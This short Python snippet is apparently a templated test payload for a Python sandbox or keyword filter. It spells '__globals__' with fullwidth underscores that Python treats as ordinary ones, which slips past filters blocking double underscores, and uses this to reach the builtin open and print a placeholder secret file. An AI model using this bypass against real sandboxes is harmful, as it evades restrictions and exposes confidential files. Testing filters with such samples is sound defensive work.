"""Underscores that Python reads as plain ones."""
import string
print(string.Template.__init__._＿globals_＿["__builtins__"]["open"]("@SECRET_FILE@").read())
